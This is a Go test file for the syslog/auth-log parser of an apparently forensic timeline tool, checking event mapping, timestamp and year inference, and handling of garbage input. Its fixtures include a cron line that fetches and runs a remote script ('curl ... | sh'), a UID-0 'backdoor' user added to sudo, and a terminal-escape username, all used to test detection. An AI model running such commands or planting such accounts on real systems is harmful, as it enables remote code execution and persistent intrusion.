package syslog

import (
	"bytes"
	"math/rand"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/timeline"
)

func parse(t testing.TB, data string, o timeline.Origin) ([]timeline.Event, []timeline.Warning) {
	t.Helper()
	if o.Entry == "" {
		o.Entry = "fs/var/log/auth.log"
	}
	if o.Location == nil {
		o.Location = time.UTC // known UTC; zone_test.go reads with the zone unknown
	}
	var evs []timeline.Event
	var ws []timeline.Warning
	if err := Parse(strings.NewReader(data), o, Options{}, func(e timeline.Event) { evs = append(evs, e) }, func(w timeline.Warning) { ws = append(ws, w) }); err != nil {
		t.Fatal(err)
	}
	return evs, ws
}

var mtime = time.Date(2026, 11, 23, 6, 0, 0, 0, time.UTC)

func TestAuthMeanings(t *testing.T) {
	for _, c := range []struct {
		line, action, outcome, user, ip string
		port                            int
		label, value                    string
	}{
		{"Nov  2 10:24:55 web01 sshd[4242]: Accepted publickey for deploy from 203.0.113.7 port 51515 ssh2: ED25519 SHA256:abc", "ssh-login", "success", "deploy", "203.0.113.7", 51515, "ssh.method", "publickey"},
		{"Nov  2 10:24:55 web01 sshd[4242]: Accepted password for root from 2001:db8::7 port 51515 ssh2", "ssh-login", "success", "root", "2001:db8::7", 51515, "ssh.method", "password"},
		{"Nov  2 10:24:55 web01 sshd[4242]: Failed password for invalid user ad min from 203.0.113.7 port 4000 ssh2", "ssh-login", "failure", "ad min", "203.0.113.7", 4000, "ssh.invalid_user", "true"},
		{"Nov  2 10:24:55 web01 sshd[4242]: Failed password for root from 203.0.113.7 port 4000 ssh2", "ssh-login", "failure", "root", "203.0.113.7", 4000, "ssh.method", "password"},
		{"Nov  2 10:24:55 web01 sshd[4242]: Invalid user \\x1b[31mx from 203.0.113.7 port 4000", "ssh-invalid-user", "failure", "\\x1b[31mx", "203.0.113.7", 4000, "", ""},
		{"Nov  2 10:24:55 web01 sshd[4242]: Connection closed by authenticating user root 203.0.113.7 port 4000 [preauth]", "ssh-disconnect", "unknown", "root", "203.0.113.7", 4000, "ssh.stage", "authenticating"},
		{"Nov  2 10:24:55 web01 sshd[4242]: Disconnected from user deploy 203.0.113.7 port 51515", "ssh-disconnect", "unknown", "deploy", "203.0.113.7", 51515, "", ""},
		{"Nov  2 10:24:55 web01 sshd[4242]: Received disconnect from 203.0.113.7 port 51515:11: disconnected by user", "ssh-disconnect", "unknown", "", "203.0.113.7", 51515, "", ""},
		{"Nov  2 10:24:55 web01 sshd[4242]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)", "session-opened", "success", "deploy", "", 0, "pam.service", "sshd"},
		{"Nov  2 10:24:55 web01 sshd[4242]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root", "authentication-failed", "failure", "root", "203.0.113.7", 0, "pam.service", "sshd"},
		{"Nov  2 10:24:55 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/sh -c 'a; b'", "sudo-command", "success", "deploy", "", 0, "sudo.target_user", "root"},
		{"Nov  2 10:24:55 web01 sudo:   deploy : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id", "sudo-command", "failure", "deploy", "", 0, "sudo.error", "3 incorrect password attempts"},
		{"Nov  2 10:24:55 web01 su[99]: (to root) deploy on pts/1", "su", "success", "deploy", "", 0, "su.target_user", "root"},
		{"Nov  2 10:24:55 web01 su[99]: FAILED su for root by deploy", "su", "failure", "deploy", "", 0, "su.target_user", "root"},
		{"Nov  2 10:24:55 web01 useradd[77]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0", "user-created", "success", "backdoor", "", 0, "user.shell", "/bin/bash"},
		{"Nov  2 10:24:55 web01 usermod[78]: add 'backdoor' to group 'sudo'", "user-added-to-group", "success", "backdoor", "", 0, "group.name", "sudo"},
		{"Nov  2 10:24:55 web01 passwd[79]: pam_unix(passwd:chauthtok): password changed for root", "password-changed", "success", "root", "", 0, "", ""},
		{"Nov  2 10:24:55 web01 CRON[80]: (root) CMD (curl -s http://198.51.100.7/x | sh)", "cron-command", "success", "root", "", 0, "", ""},
		{"Nov  2 10:24:55 web01 systemd-logind[81]: New session 42 of user deploy.", "session-opened", "success", "deploy", "", 0, "session.id", "42"},
		{"Nov  2 10:24:55 web01 kernel: [ 1.0] Linux version 6.1", "log-line", "", "", "", 0, "", ""},
	} {
		evs, ws := parse(t, c.line+"\n", timeline.Origin{ModTime: mtime, Host: "web01"})
		if len(evs) != 1 || len(ws) != 0 {
			t.Errorf("%s: %d events, %+v", c.line, len(evs), ws)
			continue
		}
		e := evs[0]
		got := func(u *timeline.User) string {
			if u == nil {
				return ""
			}
			return u.Name
		}
		ip, port := "", 0
		if e.Source != nil {
			ip, port = e.Source.IP, e.Source.Port
		}
		if e.Event.Action != c.action || e.Event.Outcome != c.outcome || got(e.User) != c.user || ip != c.ip || port != c.port ||
			(c.label != "" && e.Labels[c.label] != c.value) {
			t.Errorf("%s:\n got %s/%s user %q from %s:%d labels %v", c.line, e.Event.Action, e.Event.Outcome, got(e.User), ip, port, e.Labels)
		}
		if e.Event.Dataset != "auth" || e.Host.Name != "web01" || e.Cordon.Provenance.Line != 1 {
			t.Errorf("%s: dataset %s host %+v", c.line, e.Event.Dataset, e.Host)
		}
	}
	evs, _ := parse(t, "Nov  2 10:24:55 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/sh -c 'a; b'\n", timeline.Origin{ModTime: mtime})
	if evs[0].Process.CommandLine != "/bin/sh -c 'a; b'" || evs[0].Process.Name != "sudo" {
		t.Errorf("sudo command %+v", evs[0].Process)
	}
}

func TestFormatsAndYears(t *testing.T) {
	paris, _ := time.LoadLocation("Europe/Paris")
	janMtime := time.Date(2026, 1, 2, 3, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		name, line string
		o          timeline.Origin
		want       time.Time
		host, prog string
		pid        int64
	}{
		{"traditional, same year", "Nov  2 10:24:55 web01 sshd[1]: x", timeline.Origin{ModTime: mtime},
			time.Date(2026, 11, 2, 10, 24, 55, 0, time.UTC), "web01", "sshd", 1},
		{"December line in a file closed in January", "Dec 31 23:59:59 web01 cron[2]: x", timeline.Origin{ModTime: janMtime},
			time.Date(2025, 12, 31, 23, 59, 59, 0, time.UTC), "web01", "cron", 2},
		{"January line in the same file", "Jan  1 00:00:01 web01 cron[2]: x", timeline.Origin{ModTime: janMtime},
			time.Date(2026, 1, 1, 0, 0, 1, 0, time.UTC), "web01", "cron", 2},
		{"local time", "Jul 14 12:00:00 web01 app: x", timeline.Origin{ModTime: mtime, Location: paris},
			time.Date(2026, 7, 14, 10, 0, 0, 0, time.UTC), "web01", "app", 0},
		{"rsyslog high precision", "2026-11-02T10:24:55.123456+01:00 web01 sshd[3]: x", timeline.Origin{ModTime: mtime},
			time.Date(2026, 11, 2, 9, 24, 55, 123456000, time.UTC), "web01", "sshd", 3},
		{"RFC 5424", `<38>1 2026-11-02T10:24:55.003Z web01 sshd 4 ID47 [exampleSDID@32473 iut="3" eventSource="App]lication"] Accepted password for root from 203.0.113.7 port 22 ssh2`, timeline.Origin{ModTime: mtime},
			time.Date(2026, 11, 2, 10, 24, 55, 3e6, time.UTC), "web01", "sshd", 4},
		{"RFC 5424 nil values", "<13>1 - - - - - - hello", timeline.Origin{ModTime: mtime}, mtime, "", "", 0},
		{"PRI on a traditional line", "<86>Nov  2 10:24:55 web01 sshd[5]: x", timeline.Origin{ModTime: mtime},
			time.Date(2026, 11, 2, 10, 24, 55, 0, time.UTC), "web01", "sshd", 5},
	} {
		t.Run(c.name, func(t *testing.T) {
			evs, ws := parse(t, c.line+"\n", c.o)
			if len(evs) != 1 || len(ws) != 0 {
				t.Fatalf("%d events, %+v", len(evs), ws)
			}
			e := evs[0]
			host, prog, pid := "", "", int64(0)
			if e.Host != nil {
				host = e.Host.Name
			}
			if e.Process != nil {
				prog, pid = e.Process.Name, e.Process.PID
			}
			if !e.Timestamp.Equal(c.want) || host != c.host || prog != c.prog || pid != c.pid {
				t.Errorf("got %v host %q prog %q pid %d (%s)", e.Timestamp, host, prog, pid, e.Cordon.TimeDerivation)
			}
		})
	}
	evs, _ := parse(t, `<38>1 2026-11-02T10:24:55.003Z web01 sshd 4 ID47 [a@1 x="]"][b@2] Accepted password for root from 203.0.113.7 port 22 ssh2`+"\n", timeline.Origin{})
	if e := evs[0]; e.Labels["syslog.structured_data"] != `[a@1 x="]"][b@2]` || e.Event.Action != "ssh-login" || e.Labels["log.syslog.facility"] != "auth" || e.Labels["log.syslog.severity"] != "info" {
		t.Errorf("RFC 5424 structured data: %+v", e)
	}
	evs, _ = parse(t, "Nov  2 10:24:55 web01 sshd[1]: x\n", timeline.Origin{ModTime: mtime})
	if !strings.Contains(evs[0].Cordon.TimeDerivation, "year 2026 inferred from the file's mtime") {
		t.Errorf("derivation %q", evs[0].Cordon.TimeDerivation)
	}
}

// TestGarbage: random bytes, NULs and a huge line give warnings, never a
// panic, and parsing goes on after them.
func TestGarbage(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	junk := make([]byte, 256<<10)
	rng.Read(junk)
	var ws int
	n := 0
	if err := Parse(bytes.NewReader(junk), timeline.Origin{Entry: "fs/var/log/syslog"}, Options{}, func(timeline.Event) { n++ }, func(timeline.Warning) { ws++ }); err != nil {
		t.Fatal(err)
	}
	if ws == 0 {
		t.Error("garbage gave no warning")
	}
	long := strings.Repeat("A", MaxLine+5)
	evs, warns := parse(t, long+"\n\x00\x00\nNov  2 10:24:55 web01 sshd[1]: Accepted password for root from 203.0.113.7 port 22 ssh2\n", timeline.Origin{ModTime: mtime})
	if len(evs) != 1 || len(warns) != 2 || warns[0].Line != 1 || warns[1].Line != 2 {
		t.Errorf("%d events, warnings %+v", len(evs), warns)
	}
}
